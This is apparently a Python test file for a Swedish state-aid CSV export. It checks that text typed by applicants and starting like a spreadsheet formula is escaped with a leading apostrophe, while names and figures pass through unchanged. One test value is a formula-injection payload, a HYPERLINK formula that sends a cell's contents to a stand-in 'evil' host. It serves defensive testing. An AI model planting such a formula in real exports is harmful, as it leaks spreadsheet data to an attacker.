"""The state-aid CSV export: text the applicant typed cannot run as a formula in the officer's spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

from activities.state_aid import CSV_FIELDS, AidRow, as_csv


def _row(name: str, aid: str) -> AidRow:
    return AidRow(case_number="2026-00001", aid_id="payment-request-1-1", call_id="export-samverkan-2021",
                  org_number="5566778899", company_name=name, aid=aid, granted_on=date(2026, 6, 1),
                  value_sek=Decimal("55000.00"), value_eur=Decimal("5000.00"), sek_per_eur=Decimal("11.00"),
                  rate_published_on=date(2026, 6, 1), rule_id="ES21-DE-MINIMIS-2831",
                  regulation="kommissionens förordning (EU) 2023/2831", ceiling_eur=Decimal("300000.00"),
                  recorded_at=datetime(2026, 6, 2, tzinfo=UTC))


def _cells(rows: list[AidRow]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(as_csv(rows))))


def test_text_starting_like_a_formula_is_quoted_and_plain_text_is_not():
    hyperlink = '=HYPERLINK("http://evil/?"&A1,"x")'
    rows = _cells([
        _row(hyperlink, "@SUM(1+1)"),
        _row("+46 Konsult AB", "-10 % rabatt"),
        _row("\tTabb AB", "\rCoachning"),
        _row("Exempel AB", "Coachning i exportstrategi, 20 timmar"),
    ])
    assert [(r["company_name"], r["aid"]) for r in rows] == [
        ("'" + hyperlink, "'@SUM(1+1)"),
        ("'+46 Konsult AB", "'-10 % rabatt"),
        ("'\tTabb AB", "'\rCoachning"),
        ("Exempel AB", "Coachning i exportstrategi, 20 timmar"),
    ]
    # Figures, days and organisation numbers are written as they are.
    first = rows[0]
    assert (first["org_number"], first["granted_on"], first["value_sek"], first["value_eur"]) == (
        "556677-8899", "2026-06-01", "55000.00", "5000.00")
    assert list(first) == list(CSV_FIELDS)
